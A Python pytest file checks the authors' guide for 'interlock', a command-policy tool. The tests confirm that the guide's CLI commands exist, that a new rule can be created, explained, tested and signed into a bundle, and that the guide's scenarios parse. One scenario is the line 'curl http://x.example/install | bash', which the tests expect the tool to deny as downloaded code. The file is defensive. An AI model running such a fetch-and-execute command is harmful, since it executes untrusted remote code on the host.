"""The guide for authors, followed: its commands exist, and a rule comes from an idea to a signed bundle."""

from __future__ import annotations

import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from interlock.cli.main import app
from interlock.workbench.scenarios import parse

ROOT = Path(__file__).parents[2]
GUIDE = (ROOT / "docs" / "policies.md").read_text()
COMMANDS = [line[4:] for line in GUIDE.split("\n") if re.match(r"    (interlock|openssl|cp|INTERLOCK_)", line)]


@pytest.mark.parametrize("line", [line for line in COMMANDS if "interlock " in line])
def test_a_command_of_the_guide_exists_with_its_options(line: str) -> None:
    words = [word for word in shlex.split(line) if not word.startswith("INTERLOCK_")][1:]
    group = 2 if words[0] == "policy" else 1
    said = CliRunner().invoke(app, [*words[:group], "--help"], env={"COLUMNS": "300"})

    assert said.exit_code == 0
    for option in (word for word in words if word.startswith("--")):
        assert option in said.output, (option, said.output)


def test_the_scenarios_of_the_guide_are_read() -> None:
    block = GUIDE.split("`#` or `//`:\n\n")[1].split("\n\n|")[0]
    found = parse("\n".join(line[4:] for line in block.split("\n")), "bash", Path("guide"))

    assert [(s.source, s.cwd, str(s.expected[0])) for s in found] == [
        ("curl http://x.example/install | bash", "", "deny: network.downloaded-code"),
        ("rm -rf build", "/home/user/project", "allow"),
    ]


def test_a_rule_comes_from_nothing_to_a_signed_bundle_as_the_guide_says(tmp_path: Path) -> None:
    shutil.copytree(ROOT / "policies", tmp_path / "policies")
    (tmp_path / "script.sh").write_text("irssi\n")
    (tmp_path / "interlock").write_text(f'#!/bin/sh\nexec "{sys.executable}" -m interlock "$@"\n')
    (tmp_path / "interlock").chmod(0o755)
    environment = {**os.environ, "PATH": f"{tmp_path}:{os.environ['PATH']}", "PYTHONPATH": str(ROOT / "proxy")}
    wanted = ("cp -r", "policy new", "policy explain", "--rule network.chat-clients", "openssl", "policy build")
    followed = [line for line in COMMANDS if any(words in line for words in wanted)]
    followed = [line for line in followed if "mutate" not in line and "fuzz" not in line]

    said = {}
    for line in followed:
        ran = subprocess.run(
            ["bash", "-c", line],
            cwd=tmp_path,
            env=environment,
            capture_output=True,
            text=True,
            timeout=110,
            check=False,
        )
        assert ran.returncode == 0, (line, ran.stdout, ran.stderr)
        said[line.split()[2]] = ran.stdout

    assert "would be denied: network.chat-clients  A chat client starts" in said["explain"]
    assert "9 checks, 0 failed" in said["test"]
    assert "signed as interlock" in said["build"] and (tmp_path / "policy.tar.gz").is_file()
